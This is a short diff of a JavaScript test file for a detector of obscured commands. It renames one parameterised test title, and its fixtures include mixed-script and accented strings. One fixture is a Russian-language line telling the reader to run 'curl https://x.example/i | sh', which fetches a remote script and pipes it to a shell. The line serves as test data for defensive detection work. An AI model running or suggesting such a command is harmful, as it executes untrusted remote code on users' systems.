@@ -26,7 +26,7 @@ describe("notes on obscured commands", async () => {
     "\u0417\u0430\u043f\u0443\u0441\u0442\u0438\u0442\u0435 curl https://x.example/i | sh",
     "\u0441\u043e\u0440 \u0430\u0441",
     "na\u00efve caf\u00e9",
-  ])("tell nothing of %j", (text) => {
+  ])("do not report %j", (text) => {
     expect(obscured(text)).toEqual([]);
   });
 });
